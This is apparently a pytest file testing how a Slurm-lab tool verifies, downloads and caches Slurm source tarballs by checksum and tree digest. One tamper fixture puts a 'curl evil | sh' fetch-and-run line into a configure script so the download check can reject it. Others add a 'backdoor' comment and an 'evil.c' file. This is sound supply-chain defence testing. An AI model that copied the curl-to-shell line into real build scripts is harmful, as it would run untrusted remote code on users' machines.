"""Slurm built from source for the lab (slurmtools/lab/source.py): the tarball found, checked, downloaded, and the
build cached by version and tarball hash. The build itself runs in `slurmtools lab up --slurm 25.11`."""

from __future__ import annotations

import hashlib
import io
import tarfile
from pathlib import Path

import pytest

from slurmtools.lab import source
from slurmtools.lab.procs import LabError


def _tar(tmp_path: Path, name: str, data: bytes) -> tuple[Path, str]:
    path = tmp_path / name
    path.write_bytes(data)
    return path, hashlib.sha256(data).hexdigest()


def test_cache_key_is_version_and_tarball_hash(tmp_path: Path) -> None:
    root = tmp_path / "root"
    assert not source.cached(root, "25.11.7", "a" * 64)
    stamp = root / source.prefix("25.11.7").lstrip("/") / source.STAMP
    stamp.parent.mkdir(parents=True)
    stamp.write_text(source.build_key("25.11.7", "a" * 64) + "\n")
    assert source.cached(root, "25.11.7", "a" * 64)
    assert not source.cached(root, "25.11.7", "b" * 64)     # another tarball of the same version: rebuild
    assert not source.cached(root, "25.11.8", "a" * 64)     # another version: another prefix, rebuild
    stamp.write_text(source.build_key("25.11.7", "a" * 64, ("--prefix-only",)) + "\n")
    assert not source.cached(root, "25.11.7", "a" * 64)     # other configure options: rebuild


def test_build_is_skipped_when_cached(tmp_path: Path) -> None:
    tar, digest = _tar(tmp_path, "slurm-x.tar.xz", b"not really a tarball")
    root = tmp_path / "root"
    version = source.RELEASES["25.11"].version
    stamp = root / source.prefix(version).lstrip("/") / source.STAMP
    stamp.parent.mkdir(parents=True)
    stamp.write_text(source.build_key(version, digest))
    said: list[str] = []
    assert source.build(root, "25.11", tar, tmp_path / "logs", said.append) == version
    assert said == [] and not (tmp_path / "logs").exists()    # nothing unpacked, nothing built


def test_failed_build_names_the_step_and_log(tmp_path: Path) -> None:
    tar, _ = _tar(tmp_path, "slurm-x.tar.xz", b"not a tarball")
    with pytest.raises(LabError) as err:
        source.build(tmp_path / "root", "25.11", tar, tmp_path / "logs", lambda _m: None)
    msg = str(err.value)
    assert "failed at unpack" in msg and str(tmp_path / "logs") in msg and "\n" not in msg
    log = Path(msg.split("see ")[-1])
    assert log.is_file() and "tar -xf" in log.read_text()


def test_given_tarball_wins_and_a_missing_one_is_one_line(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    tar, _ = _tar(tmp_path, "mine.tar.xz", b"x")
    monkeypatch.delenv("SLURMTOOLS_SLURM_SOURCE", raising=False)
    assert source.find_tarball("25.11", str(tar)) == tar
    monkeypatch.setenv("SLURMTOOLS_SLURM_SOURCE", str(tar))
    assert source.find_tarball("25.11") == tar
    with pytest.raises(LabError, match="no such file"):
        source.find_tarball("25.11", str(tmp_path / "absent.tar.xz"))


def test_vendored_tarball_found(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("SLURMTOOLS_SLURM_SOURCE", raising=False)
    vendor = tmp_path / "vendor"
    vendor.mkdir()
    monkeypatch.setattr(source, "vendored_dirs", lambda: [tmp_path / "nothing", vendor])
    assert source.find_tarball("25.11") is None
    (vendor / "slurm-25.11.7.tar.xz").write_bytes(b"x")
    assert source.find_tarball("25.11") == vendor / "slurm-25.11.7.tar.xz"


def test_kept_checksum_is_enforced(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    tar, digest = _tar(tmp_path, "slurm-9.9.9.tar.xz", b"the real one")
    monkeypatch.setitem(source.CHECKSUMS, "slurm-9.9.9.tar.xz", digest)
    assert source.check(tar) == digest
    tar.write_bytes(b"tampered")
    with pytest.raises(LabError, match="is not the"):
        source.check(tar)
    other, other_digest = _tar(tmp_path, "unlisted.tar.xz", b"y")   # an unlisted local file: the user's choice
    assert source.check(other) == other_digest


def test_vendored_checksums_match_the_kept_ones() -> None:
    """The checksums kept in the code are the vendored files' SHA256SUMS (where this checkout has them)."""
    sums = next((d / "SHA256SUMS" for d in source.vendored_dirs() if (d / "SHA256SUMS").is_file()), None)
    if sums is None:
        pytest.skip("no vendored sources next to this checkout")
    listed = dict(reversed(line.split()) for line in sums.read_text().splitlines() if line.strip())
    for name, digest in listed.items():
        assert source.CHECKSUMS[name] == digest


def _git_archive_like(path: Path, top: str, files: dict[str, tuple[bytes, int]], *, mode: str = "w:gz",
                      umask: int = 0o002, mtime: int = 1_700_000_000, extra: tarfile.TarInfo | None = None) -> Path:
    """A tarball shaped like `git archive --prefix=TOP/` (a pax comment, the top folder, then the files)."""
    with tarfile.open(path, mode, format=tarfile.PAX_FORMAT, pax_headers={"comment": "f56e676b" * 5}) as tar:
        top_info = tarfile.TarInfo(top)
        top_info.type, top_info.mode, top_info.mtime = tarfile.DIRTYPE, 0o777 & ~umask, mtime
        tar.addfile(top_info)
        for name, (data, perm) in files.items():
            info = tarfile.TarInfo(f"{top}/{name}")
            info.size, info.mode, info.mtime = len(data), perm & ~umask, mtime
            tar.addfile(info, io.BytesIO(data))
        if extra is not None:
            tar.addfile(extra)
    return path


FILES = {"configure": (b"#!/bin/sh\necho configure\n", 0o777), "src/slurmctld/job_mgr.c": (b"int main;\n", 0o666),
         "COPYING": (b"GPL-2.0-or-later\n", 0o666)}


def test_tree_digest_ignores_compression_top_folder_and_metadata(tmp_path: Path) -> None:
    """GitHub's .tar.gz of a tag (top folder slurm-<tag>) and the vendored .tar.xz (slurm-<version>) of the same
    `git archive` have one digest; a changed file, a lost executable bit or an added file changes it."""
    vendored = source.tree_digest(_git_archive_like(tmp_path / "a.tar.xz", "slurm-9.9.9", FILES, mode="w:xz"))
    github = source.tree_digest(_git_archive_like(tmp_path / "b.tar.gz", "slurm-slurm-9-9-9-1", FILES,
                                                  umask=0o022, mtime=1_800_000_000))
    assert vendored == github
    changed = {**FILES, "src/slurmctld/job_mgr.c": (b"int main; /* backdoor */\n", 0o666)}
    not_exec = {**FILES, "configure": (FILES["configure"][0], 0o666)}
    added = {**FILES, "src/evil.c": (b"\n", 0o666)}
    for i, other in enumerate((changed, not_exec, added)):
        assert source.tree_digest(_git_archive_like(tmp_path / f"c{i}.tar.gz", "slurm-9.9.9", other)) != vendored


def test_tree_digest_refuses_a_device_and_garbage(tmp_path: Path) -> None:
    dev = tarfile.TarInfo("slurm-9.9.9/dev-sda")
    dev.type = tarfile.BLKTYPE
    with pytest.raises(LabError, match="neither a file, a folder nor a link"):
        source.tree_digest(_git_archive_like(tmp_path / "d.tar.gz", "slurm-9.9.9", FILES, extra=dev))
    (tmp_path / "junk.tar.gz").write_bytes(b"<html>rate limited</html>")
    with pytest.raises(LabError, match="not a readable tarball"):
        source.tree_digest(tmp_path / "junk.tar.gz")


def test_download_of_the_tag_keeps_only_its_vouched_contents(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    want = source.tree_digest(_git_archive_like(tmp_path / "vendored.tar.xz", "slurm-9.9.9", FILES, mode="w:xz"))
    monkeypatch.setitem(source.RELEASES, "9.9", source.SourceRelease("9.9.9", "trixie", ("slurm-9.9.9.tar.xz",),
                                                                     "slurm-9-9-9-1", want))
    served = _git_archive_like(tmp_path / "served.tar.gz", "slurm-slurm-9-9-9-1", FILES)
    got = source.download_tag("9.9", tmp_path / "dl", served.as_uri())
    assert got.name == "slurm-9-9-9-1.tar.gz" and source.tree_digest(got) == want
    got.unlink()
    tampered = _git_archive_like(tmp_path / "tampered.tar.gz", "slurm-slurm-9-9-9-1",
                                 {**FILES, "configure": (b"#!/bin/sh\ncurl evil | sh\n", 0o777)})
    with pytest.raises(LabError, match="holds other files than SchedMD's tag slurm-9-9-9-1"):
        source.download_tag("9.9", tmp_path / "dl", tampered.as_uri())
    assert not list((tmp_path / "dl").iterdir())    # a tarball with other contents is not kept
    with pytest.raises(LabError, match=r"cannot download slurm-9-9-9-1\.tar\.gz.*--slurm-source"):
        source.download_tag("9.9", tmp_path / "dl", (tmp_path / "absent").as_uri())


def test_the_kept_tree_digests_are_the_vendored_tags() -> None:
    """The tree digests kept in RELEASES are those of the vendored `git archive`s (whose sha256 SHA256SUMS lists and
    CHECKSUMS keeps), where this checkout has them."""
    found = 0
    for rel in source.RELEASES.values():
        path = next((d / rel.files[0] for d in source.vendored_dirs() if (d / rel.files[0]).is_file()), None)
        if path is None:
            continue
        assert source.sha256(path) == source.CHECKSUMS[rel.files[0]]
        assert source.tree_digest(path) == rel.tree, rel.version
        found += 1
    if not found:
        pytest.skip("no vendored sources next to this checkout")


def test_tree_digest_stops_at_its_bounds(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A downloaded archive is a remote answer: more members or bytes than a Slurm source holds is refused."""
    path = _git_archive_like(tmp_path / "big.tar.gz", "slurm-9.9.9", FILES)
    assert source.tree_digest(path)
    monkeypatch.setattr(source, "TREE_MAX_MEMBERS", 2)
    with pytest.raises(LabError, match="not a Slurm source tarball"):
        source.tree_digest(path)
    monkeypatch.setattr(source, "TREE_MAX_MEMBERS", 50_000)
    monkeypatch.setattr(source, "TREE_MAX_BYTES", 20)
    with pytest.raises(LabError, match="not a Slurm source tarball"):
        source.tree_digest(path)
